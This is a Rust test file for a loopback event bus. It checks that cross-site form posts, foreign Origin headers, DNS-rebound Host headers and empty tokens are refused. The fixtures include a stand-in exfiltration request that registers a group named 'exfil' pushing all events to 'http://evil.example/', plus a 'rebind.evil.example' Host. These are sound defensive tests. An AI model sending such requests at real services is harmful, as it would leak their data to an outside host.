//! What a web page can do to a bus on loopback with no token: nothing, unless the bus
//! serves the page. Requests are made as a browser would make them (plain forms, a
//! foreign `Origin`, a DNS-rebound `Host`).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::common::{ChildBus, TestBus, get_json};

async fn send(request: reqwest::RequestBuilder) -> (StatusCode, Value) {
    let response = request.send().await.unwrap();
    let status = response.status();
    (status, response.json().await.unwrap_or_default())
}

async fn group_names(bus: &TestBus) -> Vec<Value> {
    let (_, groups) = get_json(&format!("{}/v1/groups", bus.url)).await;
    groups
        .as_array()
        .unwrap()
        .iter()
        .map(|group| group["name"].clone())
        .collect()
}

#[tokio::test]
async fn a_plain_form_from_a_web_page_changes_nothing() {
    let bus = TestBus::start();
    let http = crate::common::http();
    let push = json!({"name": "exfil", "pattern": ">", "start": "beginning", "push": "http://evil.example/"});
    for content_type in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
    ] {
        let (status, body) = send(
            http.post(format!("{}/v1/groups", bus.url))
                .header("content-type", content_type)
                .body(push.to_string()),
        )
        .await;
        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{content_type}");
        assert_eq!(body["error"]["code"], "unsupported_media_type");
    }
    let (status, _) = send(
        http.post(format!("{}/v1/groups", bus.url))
            .header("origin", "http://evil.example")
            .json(&push),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, body) = send(
        http.post(format!("{}/v1/dlq/purge", bus.url))
            .header("sec-fetch-site", "cross-site")
            .json(&json!({"all": true})),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("cross-site")
    );
    assert!(group_names(&bus).await.is_empty(), "no group was created");
    // The bus's own pages (same origin) and every non-browser client keep working.
    let own = bus.url.clone();
    let mut spec = push.clone();
    spec["push"] = json!(null);
    let (status, _) = send(
        http.post(format!("{own}/v1/groups"))
            .header("origin", &own)
            .json(&spec),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    assert_eq!(group_names(&bus).await, [json!("exfil")]);
}

#[tokio::test]
async fn a_dns_rebound_host_is_refused_everywhere() {
    let bus = TestBus::start();
    let http = crate::common::http();
    for path in [
        "/v1/status",
        "/v1/events?topic=x.y&from_start=true",
        "/healthz",
    ] {
        let (status, body) = send(
            http.get(format!("{}{path}", bus.url))
                .header("host", "rebind.evil.example:7717"),
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("--allow-host")
        );
    }
    let (status, _) = send(
        http.get(format!("{}/v1/status", bus.url))
            .header("host", "localhost:7717"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
}

#[test]
fn allow_host_names_more_hosts_and_an_empty_token_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let bus = ChildBus::start(dir.path(), &["--allow-host", "bus.test"]);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let status_as = |host: &str| {
        runtime.block_on(async {
            crate::common::http()
                .get(format!("{}/v1/status", bus.url))
                .header("host", host)
                .send()
                .await
                .unwrap()
                .status()
        })
    };
    assert_eq!(status_as("bus.test:7717"), StatusCode::OK);
    assert_eq!(status_as("other.test"), StatusCode::FORBIDDEN);
    let other = tempfile::tempdir().unwrap();
    crate::common::evbus_at("http://127.0.0.1:1")
        .args([
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--token",
            "",
            "--data-dir",
        ])
        .arg(other.path())
        .assert()
        .code(2)
        .stderr(predicates::str::contains("--token is empty"));
}
